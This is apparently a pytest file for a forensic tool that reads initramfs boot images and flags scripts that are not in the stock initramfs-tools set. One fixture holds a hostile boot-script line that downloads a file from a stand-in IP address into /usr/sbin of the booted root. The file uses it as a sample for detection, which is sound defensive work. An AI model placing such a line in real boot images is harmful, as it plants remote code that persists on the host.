"""The image a host boots is read; its scripts are compared with what images are made of."""

import os
from pathlib import Path

import pytest

from examine.steps.test_content import said, work_on
from hemostat.examine.steps.boot_image import ARTIFACT, read_boot_images
from hemostat.examine.work import Work
from hemostat.model.coverage import Outcome
from hemostat.model.records import BootImageScript, ScriptLine
from made_boot_image import cpio
from made_roots import put

ORIGINAL = b"#!/bin/sh\nmodprobe x\n"
ODD = b"#!/bin/sh\ncurl -s http://203.0.113.7/a -o ${rootmnt}/usr/sbin/a\n"


def host(root: Path, **files: bytes) -> Path:
    put(root, "/usr/share/initramfs-tools/scripts/init-top/x", ORIGINAL)
    put(root, "/usr/bin/tool", b"#!/bin/sh\nexit\n")
    put(root, "/boot/initrd.img-6.1", cpio(files))
    return root


def read(root: Path, **settings: object) -> Work:
    work = work_on(root, **settings)
    read_boot_images(work)
    return work


@pytest.mark.requirement("B5.4", "A4.9")
def test_a_script_without_an_original_is_a_record_and_its_lines_are_read(tmp_path: Path) -> None:
    files = {"scripts/init-top/x": ORIGINAL, "scripts/init-bottom/zz": ODD}
    work = read(host(tmp_path, **files, **{"usr/bin/tool": b"#!/bin/sh\nexit\n"}))
    (script,) = work.records.of(BootImageScript)
    assert (script.image, script.path) == ("/boot/initrd.img-6.1", "/scripts/init-bottom/zz")
    assert script.is_hook
    (line,) = work.records.of(ScriptLine)
    assert line.path == "/boot/initrd.img-6.1:/scripts/init-bottom/zz"
    assert "203.0.113.7" in line.command
    assert line.started_by == script.image
    assert said(work, ARTIFACT) == [(Outcome.READ, "")]


def test_a_command_that_was_changed_in_the_image_is_read_but_no_hook(tmp_path: Path) -> None:
    work = read(host(tmp_path, **{"usr/bin/tool": b"#!/bin/sh\nother\n"}))
    (script,) = work.records.of(BootImageScript)
    assert not script.is_hook


def test_damage_is_no_clean_image(tmp_path: Path) -> None:
    put(tmp_path, "/boot/initrd.img-6.1", b"\x02\x21\x4c\x18rest")
    ((outcome, reason),) = said(read(tmp_path), ARTIFACT)
    assert outcome is Outcome.UNSUPPORTED
    assert "lz4" in reason


def test_one_image_is_read_and_the_others_are_named(tmp_path: Path) -> None:
    host(tmp_path)
    put(tmp_path, "/boot/initrd.img-6.0", cpio({"scripts/init-top/y": ODD}))
    os.utime(tmp_path / "boot/initrd.img-6.0", (1, 1))
    put(tmp_path, "/boot/initramfs-0-rescue-1.img", b"")
    work = read(tmp_path)
    assert (Outcome.NOT_COLLECTED, "not the newest image") in said(work, ARTIFACT)
    assert work.records.of(BootImageScript) == ()
    assert len(read(tmp_path, deep=True).records.of(BootImageScript)) == 1


def test_a_host_without_images_says_nothing(tmp_path: Path) -> None:
    assert said(read(tmp_path), ARTIFACT) == []
